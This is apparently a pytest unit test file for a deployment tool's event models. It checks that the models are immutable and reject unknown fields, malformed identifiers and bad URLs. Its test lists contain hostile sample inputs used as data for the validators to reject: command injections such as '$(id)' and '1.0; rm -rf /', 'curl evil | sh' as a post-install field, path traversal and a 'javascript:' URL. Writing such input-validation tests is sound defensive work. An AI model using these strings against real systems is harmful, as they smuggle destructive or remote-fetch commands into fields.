"""Event contracts: frozen, no unknown fields, strict patterns on every string, cross-field rules."""

from __future__ import annotations

import copy
import re
import uuid
from collections.abc import Mapping
from typing import Any

import pytest
from pydantic import BaseModel, ConfigDict, PrivateAttr, ValidationError

from reactor.domain.status import NodeStatus
from reactor.events import (
    EVENT_ID,
    EVENT_TYPES,
    EVENTS_BY_TYPE,
    NAMESPACE,
    DeployRequested,
    HealthCheck,
    Model,
    NodeEvent,
    NodeTarget,
    Package,
    ReleaseApproved,
    ReleaseEvent,
    ReleasePlan,
    ReleaseRequested,
    Strategy,
    Topic,
    derived_event_id,
)

pytestmark = pytest.mark.unit

SHA = "0123456789abcdef" * 4
IMAGE = "registry.example.com/shop/api:1.2.3"
URL = "https://artifacts.example.com/api/api-1.2.3.tar.gz"

Loc = tuple[int | str, ...]


def deploy_fields(**overrides: object) -> dict[str, object]:
    """The fields of a valid DeployRequested, with `overrides` applied."""
    fields: dict[str, object] = {"node_key": "local/h1/api", "service": "api", "version": "1.2.3", "image": IMAGE}
    fields.update(overrides)
    return fields


def plan_fields(**overrides: object) -> dict[str, object]:
    """The fields of a valid ReleasePlan, with `overrides` applied."""
    fields: dict[str, object] = {
        "release_id": "rel-1",
        "service": "api",
        "version": "1.2.3",
        "image": IMAGE,
        "nodes": [{"node_key": "local/h1/api"}, {"node_key": "local/h2/api"}],
    }
    fields.update(overrides)
    return fields


def rejected_at(model: type[BaseModel], fields: Mapping[str, object]) -> set[Loc]:
    """The locations of every error validating `fields` as `model`; fails the test if validation passes."""
    with pytest.raises(ValidationError) as info:
        model.model_validate(fields)
    return {tuple(error["loc"]) for error in info.value.errors()}


def rejection_messages(model: type[BaseModel], fields: Mapping[str, object]) -> str:
    """All error messages of validating `fields` as `model`, joined; fails the test if validation passes."""
    with pytest.raises(ValidationError) as info:
        model.model_validate(fields)
    return " | ".join(error["msg"] for error in info.value.errors())


# --- frozen, extra="forbid" ---------------------------------------------------------------------

VALID_MODELS: list[tuple[type[BaseModel], dict[str, object]]] = [
    (DeployRequested, deploy_fields()),
    (ReleaseApproved, {"release_id": "rel-1"}),
    (ReleasePlan, plan_fields()),
    (ReleaseRequested, {"release_id": "rel-1", "plan": plan_fields()}),
    (Package, {"url": URL, "sha256": SHA}),
    (HealthCheck, {}),
    (Strategy, {}),
    (NodeTarget, {"node_key": "local/h1/api"}),
]


@pytest.mark.parametrize(("model", "fields"), VALID_MODELS, ids=lambda value: getattr(value, "__name__", ""))
def test_valid_fields_are_accepted(model: type[BaseModel], fields: dict[str, object]) -> None:
    """The baseline fields used below validate, so each rejection is caused by the one change made to them."""
    assert model.model_validate(fields).model_dump(exclude_unset=True).keys() == fields.keys()


@pytest.mark.parametrize(("model", "fields"), VALID_MODELS, ids=lambda value: getattr(value, "__name__", ""))
def test_unknown_field_is_rejected(model: type[BaseModel], fields: dict[str, object]) -> None:
    with pytest.raises(ValidationError) as info:
        model.model_validate({**fields, "command": "rm -rf /"})
    assert [(error["loc"], error["type"]) for error in info.value.errors()] == [(("command",), "extra_forbidden")]


def test_unknown_field_in_a_nested_model_is_rejected() -> None:
    fields = deploy_fields(package={"url": URL, "sha256": SHA, "post_install": "curl evil | sh"}, image=None)
    assert rejected_at(DeployRequested, fields) == {("package", "post_install")}


@pytest.mark.parametrize(("field", "value"), [("version", "9.9.9"), ("node_key", "local/h2/api"), ("event_id", "x")])
def test_event_fields_cannot_be_changed_after_creation(field: str, value: str) -> None:
    event = DeployRequested.model_validate(deploy_fields())
    with pytest.raises(ValidationError, match="frozen"):
        setattr(event, field, value)
    assert getattr(event, field) != value


@pytest.mark.parametrize("field", ["url", "sha256"])
def test_nested_models_cannot_be_changed_after_creation(field: str) -> None:
    event = DeployRequested.model_validate(deploy_fields(package={"url": URL, "sha256": SHA}))
    assert event.package is not None
    with pytest.raises(ValidationError, match="frozen"):
        setattr(event.package, field, "changed")
    assert event.package == Package(url=URL, sha256=SHA)


# --- strict patterns against hostile values -----------------------------------------------------

HOSTILE_VERSIONS = [
    "1.0; rm -rf /",
    "$(id)",
    "`id`",
    "../../etc",
    "1.0\n",
    "1.0\r",
    "1.0\x00",
    "1.0 beta",
    " 1.0",
    "1.0 ",
    "'1.0'",
    '"1.0"',
    "1.0|sh",
    "1.0&&reboot",
    "1.0>/etc/passwd",
    "-rf",
    ".hidden",
    "",
    "1" * 65,
    "ü1",
]


@pytest.mark.parametrize("version", HOSTILE_VERSIONS)
def test_version_rejects_hostile_values(version: str) -> None:
    assert rejected_at(DeployRequested, deploy_fields(version=version)) == {("version",)}


@pytest.mark.parametrize("version", ["1.2.3", "2024.01.02+build.5", "v1-rc.1", "A", "1" * 64])
def test_version_accepts_ordinary_versions(version: str) -> None:
    assert DeployRequested.model_validate(deploy_fields(version=version)).version == version


@pytest.mark.parametrize(
    "service", ["Hello", "a b", "x;y", "-api", "1api", "api_v2", "api.", "$(id)", "api\n", "a" * 64, ""]
)
def test_service_rejects_hostile_values(service: str) -> None:
    assert rejected_at(DeployRequested, deploy_fields(service=service)) == {("service",)}


@pytest.mark.parametrize(
    "node_key",
    [
        "local/../api",
        "local/h1/../api",
        "local/h1/..",
        "../etc/api",
        "local/h 1/api",
        "local/h1;reboot/api",
        "local/$(id)/api",
        "local/`id`/api",
        "local/h1/api\n",
        "/local/h1/api",
        "local//api",
        "local/h1/api/",
        "Local/h1/api",
        "local/.h1/api",
        "local/h1/api;",
        "local",
        "local/a/b/c/d/e/f",
    ],
)
def test_node_key_rejects_hostile_values(node_key: str) -> None:
    assert rejected_at(DeployRequested, deploy_fields(node_key=node_key)) == {("node_key",)}


@pytest.mark.parametrize("node_key", ["local/h1/api", "ssh/web-01.example.com/api", "k8s/prod/api", "local/api"])
def test_node_key_accepts_ordinary_keys(node_key: str) -> None:
    assert DeployRequested.model_validate(deploy_fields(node_key=node_key)).node_key == node_key


@pytest.mark.parametrize(
    "url",
    [
        "https://example.com/a;rm -rf",
        "https://example.com/a'b",
        'https://example.com/a"b',
        "https://example.com/a b",
        "https://example.com/`id`",
        "https://example.com/a?x=$(id)",
        "https://example.com/a\n",
        "https://ex;ample.com/a",
        "https://user@example.com/a",
        "https://example.com:123456/a",
        "https://example.com",
        "javascript:alert(1)",
        "ftp://example.com/a",
        "//example.com/a",
        "file://host/etc/passwd;id",
    ],
)
def test_package_url_rejects_hostile_values(url: str) -> None:
    fields = deploy_fields(package={"url": url, "sha256": SHA}, image=None)
    assert rejected_at(DeployRequested, fields) == {("package", "url")}


@pytest.mark.parametrize(
    "url", [URL, "http://10.0.0.1:8080/a/b.tgz?sig=x%2By&exp=1", "file:///srv/packages/api-1.2.3.tar.gz"]
)
def test_package_url_accepts_http_https_and_file_urls(url: str) -> None:
    assert Package(url=url, sha256=SHA).url == url


@pytest.mark.parametrize(
    "sha256", ["a" * 63, "a" * 65, "A" * 64, "g" * 64, "", "a" * 64 + "\n", " " + "a" * 63, "0x" + "a" * 62]
)
def test_sha256_rejects_wrong_length_uppercase_and_non_hex(sha256: str) -> None:
    assert rejected_at(Package, {"url": URL, "sha256": sha256}) == {("sha256",)}


@pytest.mark.parametrize(
    "image",
    [
        "registry/api 1",
        "registry/api;id",
        "Registry/api",
        "registry/api:$(id)",
        "registry/api:`id`",
        "registry/api:1\n",
        "registry/api:a b",
        "-registry/api",
        "registry/api@sha256:abc",
    ],
)
def test_image_rejects_hostile_values(image: str) -> None:
    assert rejected_at(DeployRequested, deploy_fields(image=image)) == {("image",)}


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("release_id", "Rel-1"),
        ("release_id", "rel 1"),
        ("release_id", "../rel"),
        ("event_id", "id;reboot"),
        ("event_id", "-x"),
        ("causation_id", "$(id)"),
        ("actor", "alice; rm -rf /"),
        ("actor", "-alice"),
        ("container", "Api"),
        ("container", "api;id"),
        ("container", "api_1"),
    ],
)
def test_other_identifiers_reject_hostile_values(field: str, value: str) -> None:
    assert rejected_at(DeployRequested, deploy_fields(**{field: value})) == {(field,)}


@pytest.mark.parametrize("path", ["healthz", "/health z", "/health;id", "/$(id)", "/health?x=1"])
def test_health_path_rejects_hostile_values(path: str) -> None:
    assert rejected_at(HealthCheck, {"path": path}) == {("path",)}


# --- cross-field rules --------------------------------------------------------------------------


def test_deploy_requested_needs_a_package_or_an_image() -> None:
    assert "one of package or image is required" in rejection_messages(DeployRequested, deploy_fields(image=None))


def test_deploy_requested_accepts_a_package_without_an_image() -> None:
    event = DeployRequested.model_validate(deploy_fields(image=None, package={"url": URL, "sha256": SHA}))
    assert event.package == Package(url=URL, sha256=SHA)
    assert event.image is None


def test_release_plan_rejects_a_node_key_listed_twice() -> None:
    nodes = [{"node_key": "local/h1/api"}, {"node_key": "local/h2/api"}, {"node_key": "local/h1/api"}]
    assert "a node key appears twice" in rejection_messages(ReleasePlan, plan_fields(nodes=nodes))


def test_release_plan_rejects_a_node_key_of_another_service() -> None:
    nodes = [{"node_key": "local/h1/api"}, {"node_key": "local/h2/web"}]
    message = rejection_messages(ReleasePlan, plan_fields(nodes=nodes))
    assert "local/h2/web does not end with the service name api" in message


def test_release_plan_rejects_a_node_key_that_only_ends_with_the_service_name_as_a_suffix() -> None:
    nodes = [{"node_key": "local/h1/my-api"}]
    assert "does not end with the service name" in rejection_messages(ReleasePlan, plan_fields(nodes=nodes))


def test_release_plan_accepts_kubernetes_node_keys_named_otherwise() -> None:
    plan = ReleasePlan.model_validate(plan_fields(nodes=[{"node_key": "k8s/prod/api-deployment"}]))
    assert [node.node_key for node in plan.nodes] == ["k8s/prod/api-deployment"]


def test_release_plan_rejects_a_node_without_package_or_image() -> None:
    nodes = [{"node_key": "local/h1/api", "image": IMAGE}, {"node_key": "local/h2/api"}]
    message = rejection_messages(ReleasePlan, plan_fields(image=None, nodes=nodes))
    assert "local/h2/api has no package or image" in message


def test_release_plan_accepts_per_node_artifacts_without_a_plan_artifact() -> None:
    nodes = [
        {"node_key": "local/h1/api", "image": IMAGE},
        {"node_key": "local/h2/api", "package": {"url": URL, "sha256": SHA}},
    ]
    plan = ReleasePlan.model_validate(plan_fields(image=None, nodes=nodes))
    assert plan.image is None
    assert plan.package is None
    assert len(plan.nodes) == 2


def test_release_plan_needs_at_least_one_node() -> None:
    assert rejected_at(ReleasePlan, plan_fields(nodes=[])) == {("nodes",)}


def test_release_requested_rejects_a_release_id_other_than_the_plans() -> None:
    message = rejection_messages(ReleaseRequested, {"release_id": "rel-2", "plan": plan_fields(release_id="rel-1")})
    assert "release_id differs from plan.release_id" in message


@pytest.mark.parametrize("batches", [[0], [-1], ["0%"], ["101%"], ["50 %"], ["050%"], ["%"], [1, 0], []], ids=repr)
def test_strategy_rejects_impossible_batch_sizes(batches: list[Any]) -> None:
    with pytest.raises(ValidationError):
        Strategy.model_validate({"batches": batches})


@pytest.mark.parametrize("budget", [-1, "0%", "101%", "-5%"])
def test_strategy_rejects_negative_or_impossible_failure_budgets(budget: int | str) -> None:
    with pytest.raises(ValidationError):
        Strategy.model_validate({"failure_budget": budget})


def test_strategy_accepts_counts_and_percentages() -> None:
    strategy = Strategy.model_validate({"batches": [1, "1%", "100%", 5], "failure_budget": "10%", "max_parallel": 3})
    assert strategy.batches == [1, "1%", "100%", 5]
    assert strategy.failure_budget == "10%"
    assert strategy.max_parallel == 3


def test_strategy_rejects_zero_parallelism() -> None:
    assert rejected_at(Strategy, {"max_parallel": 0}) == {("max_parallel",)}


@pytest.mark.parametrize("seconds", [-0.1, 86400.5, float("nan")])
def test_min_healthy_outside_zero_to_a_day_is_rejected(seconds: float) -> None:
    assert rejected_at(Strategy, {"min_healthy_s": seconds}) == {("min_healthy_s",)}
    assert rejected_at(DeployRequested, deploy_fields(min_healthy_s=seconds)) == {("min_healthy_s",)}


def test_min_healthy_defaults_to_zero_and_accepts_up_to_a_day() -> None:
    assert (Strategy().min_healthy_s, DeployRequested.model_validate(deploy_fields()).min_healthy_s) == (0.0, 0.0)
    assert Strategy(min_healthy_s=86400).min_healthy_s == 86400
    assert DeployRequested.model_validate(deploy_fields(min_healthy_s=1.5)).min_healthy_s == 1.5


# --- the registry of event types ----------------------------------------------------------------


def test_every_event_type_has_a_unique_versioned_type_and_a_topic() -> None:
    types = [cls.TYPE for cls in EVENT_TYPES]
    assert len(set(types)) == len(types)
    for cls in EVENT_TYPES:
        assert cls.TYPE.startswith("dev.deployreactor."), cls
        assert cls.TYPE.endswith(".v1"), cls
        assert isinstance(cls.TOPIC, Topic), cls
        assert cls.TOPIC != Topic.DLQ, cls


def test_events_by_type_maps_every_type_back_to_its_class() -> None:
    assert {cls.TYPE: cls for cls in EVENT_TYPES} == EVENTS_BY_TYPE
    assert len(EVENTS_BY_TYPE) == len(EVENT_TYPES)


def test_release_events_go_to_the_releases_topic_and_node_events_elsewhere() -> None:
    """Per-key order needs one key per topic: release events are keyed by release id, node events by node key."""
    for cls in EVENT_TYPES:
        if issubclass(cls, ReleaseEvent):
            assert cls.TOPIC == Topic.RELEASES, cls
        else:
            assert issubclass(cls, NodeEvent), cls
            assert cls.TOPIC in {Topic.COMMANDS, Topic.OUTCOMES}, cls


# --- ids ----------------------------------------------------------------------------------------


def test_derived_event_id_is_deterministic() -> None:
    assert derived_event_id("rel-1", "local/h1/api", "deploy") == derived_event_id("rel-1", "local/h1/api", "deploy")


@pytest.mark.parametrize(
    "other",
    [("rel-2", "local/h1/api", "deploy"), ("rel-1", "local/h2/api", "deploy"), ("rel-1", "local/h1/api"), ()],
)
def test_derived_event_id_differs_for_different_parts(other: tuple[str, ...]) -> None:
    assert derived_event_id("rel-1", "local/h1/api", "deploy") != derived_event_id(*other)


def test_derived_event_id_is_a_valid_event_id() -> None:
    event_id = derived_event_id("rel-1", "batch", "0", "started")
    assert re.fullmatch(EVENT_ID, event_id)
    assert ReleaseApproved(release_id="rel-1", event_id=event_id).event_id == event_id


def test_new_events_get_distinct_event_ids() -> None:
    first = DeployRequested.model_validate(deploy_fields())
    second = DeployRequested.model_validate(deploy_fields())
    assert first.event_id != second.event_id
    assert re.fullmatch(EVENT_ID, first.event_id)
    assert first.occurred_at.utcoffset() is not None


@pytest.mark.parametrize(
    "parts",
    [("a",), ("release-1", "noop/host-00001/app", "deploy"), ("3f2a", "outcome"), ("é∂-ü", ""), ("x" * 300,)],
)
def test_derived_event_id_is_the_uuid5_of_the_joined_parts(parts: tuple[str, ...]) -> None:
    # Ids derived before are on record (processed outcomes, release outboxes): the fast path must make the same ones.
    assert derived_event_id(*parts) == str(uuid.uuid5(NAMESPACE, "/".join(parts)))
    assert uuid.UUID(derived_event_id(*parts)).version == 5


class _WithPrivate(Model):
    value: int = 0
    _note: str = PrivateAttr()
    _count: int = PrivateAttr(default=0)


@pytest.mark.parametrize(
    ("model", "change"),
    [
        (NodeStatus(node_key="local/h1/api", host="h1", service="api", platform="local", revision=3), {"revision": 9}),
        (
            DeployRequested(
                node_key="local/h1/api", service="api", version="2.0.0", image="registry.example.test/api:2"
            ),
            {"version": "2.0.1"},
        ),
        (_WithPrivate(value=1), {"value": 7}),
    ],
    ids=["node-status", "command", "private-attributes"],
)
def test_a_models_copy_is_what_pydantics_copy_makes_and_shares_no_bookkeeping(
    model: Model, change: dict[str, object]
) -> None:
    """Model's faster `__copy__` (under every `model_copy`) makes what BaseModel's makes: equal fields, the same
    fields set, no unset private attribute; and a changed copy leaves the original alone."""
    ours = copy.copy(model)
    theirs = BaseModel.__copy__(model)
    assert type(ours) is type(model)
    assert ours == theirs == model
    assert ours.__dict__ == theirs.__dict__
    assert ours.__dict__ is not model.__dict__
    assert ours.model_fields_set == theirs.model_fields_set == model.model_fields_set
    assert ours.model_fields_set is not model.model_fields_set
    assert ours.__pydantic_extra__ == theirs.__pydantic_extra__
    assert ours.__pydantic_private__ == theirs.__pydantic_private__
    before = model.model_dump()
    changed = model.model_copy(update=change)
    assert changed.model_dump() == {**before, **change}
    assert changed.model_fields_set == model.model_fields_set | change.keys()
    assert model.model_dump() == before
    # What pydantic's own model_copy makes of BaseModel's copy: the same, with nothing shared.
    expected = BaseModel.__copy__(model)
    expected.__dict__.update(change)
    expected.__pydantic_fields_set__.update(change)
    assert type(changed) is type(model)
    assert changed.__dict__ == expected.__dict__
    assert changed.__dict__ is not model.__dict__
    assert changed.model_fields_set == expected.model_fields_set
    assert changed.model_fields_set is not model.model_fields_set
    assert changed.__pydantic_extra__ == expected.__pydantic_extra__
    assert changed.__pydantic_private__ == expected.__pydantic_private__
    deep = model.model_copy(update=change, deep=True)
    assert deep.__dict__ == expected.__dict__
    assert deep.model_fields_set == expected.model_fields_set


class _Open(Model):
    model_config = ConfigDict(frozen=True, extra="allow")

    value: int = 0


def test_a_model_with_extra_fields_is_copied_the_way_pydantic_copies_it() -> None:
    model = _Open(value=1, more="kept")  # an extra field, which this model allows
    for copied in (copy.copy(model), model.model_copy(), model.model_copy(update={"value": 2}, deep=True)):
        assert copied.__pydantic_extra__ == {"more": "kept"}
        assert copied.__pydantic_extra__ is not model.__pydantic_extra__
    assert model.model_copy(update={"value": 2, "more": "changed"}).model_dump() == {"value": 2, "more": "changed"}
    assert model.model_dump() == {"value": 1, "more": "kept"}


def test_a_copy_keeps_the_private_attributes_that_are_set() -> None:
    model = _WithPrivate(value=1)
    model._note = "kept"
    ours = copy.copy(model)
    assert ours._note == "kept"
    assert ours._count == 0
    assert ours.__pydantic_private__ == BaseModel.__copy__(model).__pydantic_private__
    assert ours.__pydantic_private__ is not model.__pydantic_private__
